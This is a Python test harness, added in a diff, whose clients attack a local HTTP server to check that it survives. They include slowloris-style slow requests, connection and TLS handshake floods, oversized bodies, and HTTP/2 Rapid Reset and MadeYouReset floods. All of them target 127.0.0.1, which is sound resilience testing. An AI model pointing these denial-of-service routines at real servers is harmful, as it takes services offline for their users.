@@ -1,0 +1,291 @@
+"""Clients that an HTTP server has to survive: `attacks.py NAME PORT SECONDS [SOURCE]`, a process of its own so that it
+does not slow the one that measures. Prints one JSON object of what it did."""
+import contextlib
+import json
+import selectors
+import socket
+import ssl
+import struct
+import sys
+import time
+
+import h2.config
+import h2.connection
+import h2.errors
+import h2.events
+import h2.exceptions
+
+HEADERS = [(":method", "GET"), (":path", "/healthz/ready"), (":scheme", "http"), (":authority", "agent")]
+DRIP_S = 0.3
+
+
+class Attack:
+    """port, until when, and from where (None: as the kernel likes)."""
+
+    def __init__(self, port, seconds, source):
+        self.port, self.end, self.source = port, time.monotonic() + seconds, source
+        self.counts = {"connected": 0, "ended": 0, "sent": 0}
+
+    def going_on(self):
+        return time.monotonic() < self.end
+
+    def count(self, name, by=1):
+        self.counts[name] = self.counts.get(name, 0) + by
+
+    def connect(self, source=None, **options):
+        source = source or self.source
+        client = socket.socket()
+        for option, value in options.items():
+            client.setsockopt(socket.SOL_SOCKET, getattr(socket, option), value)
+        if source:
+            client.bind((source, 0))
+        client.settimeout(5)
+        client.connect(("127.0.0.1", self.port))
+        self.count("connected")
+        return client
+
+    def hold(self, sources, drip=None):
+        """One connection for each of sources, opened again when it ends; each sends what drip(turn) says now and then.
+        """
+        clients = {}
+        with selectors.DefaultSelector() as ready:
+            turn, due = 0, 0.0
+            while self.going_on():
+                for number, source in enumerate(sources):
+                    if number not in clients and self.going_on():
+                        self._open(clients, ready, number, source, drip)
+                for key, _ in ready.select(0.05):
+                    self._read(clients, ready, key)
+                if drip and time.monotonic() >= due:
+                    turn, due = turn + 1, time.monotonic() + DRIP_S
+                    for number in list(clients):
+                        self._send(clients, ready, number, drip(turn))
+        for client in clients.values():
+            client.close()
+
+    def _open(self, clients, ready, number, source, drip):
+        with contextlib.suppress(OSError):
+            clients[number] = self.connect(source)
+            clients[number].setblocking(False)
+            ready.register(clients[number], selectors.EVENT_READ, number)
+            if drip:
+                self._send(clients, ready, number, drip(0))
+
+    def _read(self, clients, ready, key):
+        try:
+            gone = not key.fileobj.recv(65536)
+        except BlockingIOError:
+            return
+        except OSError:
+            gone = True
+        if gone:
+            self._forget(clients, ready, key.data)
+
+    def _forget(self, clients, ready, number):
+        client = clients.pop(number)
+        ready.unregister(client)
+        client.close()
+        self.count("ended")
+
+    def _send(self, clients, ready, number, data):
+        try:
+            clients[number].send(data)
+            self.count("sent")
+        except BlockingIOError:
+            pass
+        except OSError:
+            self._forget(clients, ready, number)
+
+
+def idle_one(attack):
+    """1,000 connections from one address that ask nothing."""
+    attack.hold([attack.source] * 1000)
+
+
+def idle_fifty(attack):
+    """The same from fifty addresses."""
+    attack.hold([f"127.0.1.{1 + n % 50}" for n in range(1000)])
+
+
+def idle(attack):
+    attack.hold([attack.source] * 5)
+
+
+def slow_headers(attack):
+    attack.hold([attack.source] * 5, lambda turn: b"x-slow: 1\r\n" if turn else b"GET / HTTP/1.1\r\nhost: agent\r\n")
+
+
+def slow_bodies(attack):
+    attack.hold([attack.source] * 5, lambda turn: b"x" if turn else
+                b"POST /healthz/ready HTTP/1.1\r\nhost: agent\r\ncontent-length: 60000\r\n\r\n")
+
+
+def pings(attack):
+    """HTTP/2 connections that never ask and never are silent."""
+    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">HBBBL", 0, 0, 4, 0, 0)
+    ping = struct.pack(">HBBBL", 0, 8, 6, 0, 0) + b"12345678"
+    attack.hold([attack.source] * 5, lambda turn: ping if turn else preface)
+
+
+def slow_readers(attack):
+    """Ask for more than fits into the buffers and take nothing."""
+    request = b"GET /metrics HTTP/1.1\r\nhost: agent\r\n\r\n" * 500
+    while attack.going_on():
+        with contextlib.suppress(OSError), contextlib.ExitStack() as stack:
+            clients = [stack.enter_context(attack.connect(SO_RCVBUF=4096)) for _ in range(5)]
+            for client in clients:
+                client.setblocking(False)
+            while attack.going_on():
+                for client in clients:
+                    with contextlib.suppress(BlockingIOError):
+                        attack.count("sent", client.send(request))
+                time.sleep(0.1)
+
+
+def handshakes(attack):
+    """TLS clients that stop after half a hello."""
+    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"r" * 32
+    attack.hold([attack.source] * 5, lambda turn: b"" if turn else hello)
+
+
+def big_bodies(attack):
+    """10 MB to a path that takes none, with and without a length."""
+    begin = b"POST /healthz/ready HTTP/1.1\r\nhost: agent\r\n"
+    for head, block in ((b"content-length: 10000000\r\n\r\n", b"x" * 10000),
+                        (b"transfer-encoding: chunked\r\n\r\n", b"2710\r\n" + b"x" * 10000 + b"\r\n")):
+        with attack.connect() as client:
+            status = b""
+            with contextlib.suppress(OSError):
+                client.sendall(begin + head)
+                for _ in range(1000):
+                    client.sendall(block)
+            with contextlib.suppress(OSError):
+                status = client.recv(12)
+            attack.count(status.decode() or "no answer")
+
+
+def pipelining(attack):
+    """Requests in one write as long as they are answered, all answers read."""
+    request = b"GET /healthz/ready HTTP/1.1\r\nhost: agent\r\n\r\n" * 1000
+    while attack.going_on():
+        with attack.connect() as client:
+            client.sendall(request)
+            answers, tail = 0, b""
+            while answers < 1000:
+                data = client.recv(65536)
+                if not data:
+                    break
+                answers += (tail + data).count(b"HTTP/1.1 200 OK")
+                tail = data[-14:]
+            attack.count("answered", answers)
+
+
+class Http2:
+    """A connection by prior knowledge."""
+
+    def __init__(self, attack):
+        self.attack, self.socket = attack, attack.connect()
+        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(validate_inbound_headers=False))
+        self.h2.initiate_connection()
+        self.flush()
+
+    def flush(self):
+        self.socket.sendall(self.h2.data_to_send())
+
+    def read(self, timeout):
+        """False: it has ended."""
+        self.socket.settimeout(timeout)
+        try:
+            data = self.socket.recv(65536)
+        except (BlockingIOError, TimeoutError):
+            return True
+        with contextlib.suppress(h2.exceptions.ProtocolError):
+            for event in self.h2.receive_data(data):
+                if isinstance(event, h2.events.StreamReset):
+                    self.attack.count("reset_by_server")
+                if isinstance(event, h2.events.ConnectionTerminated):
+                    return False
+        return bool(data)
+
+
+def _flood(attack, request):
+    """request(connection, stream) until the server ends the connection; then the next one."""
+    while attack.going_on():
+        try:
+            connection = Http2(attack)
+            with connection.socket:
+                stream = 1
+                while attack.going_on():
+                    for _ in range(25):
+                        request(connection, stream)
+                        attack.count("sent")
+                        stream += 2
+                    connection.flush()
+                    if not connection.read(0.0):
+                        break
+        except (OSError, h2.exceptions.ProtocolError):  # the latter: it knows of too many open streams
+            pass
+        attack.count("ended")
+
+
+def rapid_reset(attack):
+    """CVE-2023-44487: ask and take back at once."""
+    def request(connection, stream):
+        connection.h2.send_headers(stream, HEADERS, end_stream=True)
+        connection.h2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
+    _flood(attack, request)
+
+
+def made_you_reset(attack):
+    """CVE-2025-8671: ask, then err on the stream, so that the server resets it."""
+    bad_update = struct.pack(">HBBB", 0, 4, 8, 0)  # WINDOW_UPDATE by 2^31 - 1 on top of what there is
+
+    def request(connection, stream):
+        connection.h2.send_headers(stream, HEADERS, end_stream=True)
+        connection.flush()
+        connection.socket.sendall(bad_update + struct.pack(">LL", stream, 2**31 - 1))
+    _flood(attack, request)
+
+
+def unknown_frames(attack):
+    """Frames of a type that nobody knows."""
+    with contextlib.suppress(OSError):
+        connection = Http2(attack)
+        frame = struct.pack(">HBBBL", 0, 4, 0x42, 0, 0) + b"abcd"
+        while attack.going_on():
+            connection.socket.sendall(frame * 100)
+            attack.count("sent", 100)
+            connection.read(0.01)
+            time.sleep(0.05)
+
+
+def many_streams(attack):
+    """More requests at once than a connection may have, none of them dropped too often."""
+    connection = Http2(attack)
+    for number in range(99):
+        connection.h2.send_headers(2 * number + 1, HEADERS, end_stream=True)
+        if number < 40:
+            connection.h2.reset_stream(2 * number + 1, h2.errors.ErrorCodes.CANCEL)
+    connection.flush()
+    while attack.going_on() and connection.read(0.1):
+        pass
+
+
+def tls_floods(attack):
+    """Whole handshakes, one after the other."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    while attack.going_on():
+        with contextlib.suppress(OSError), attack.connect() as client, context.wrap_socket(client):
+            attack.count("sent")
+
+
+def main():
+    name, port, seconds, *source = sys.argv[1:]
+    attack = Attack(int(port), float(seconds), source[0] if source else None)
+    globals()[name](attack)
+    print(json.dumps(attack.counts))
+
+
+if __name__ == "__main__":
+    main()
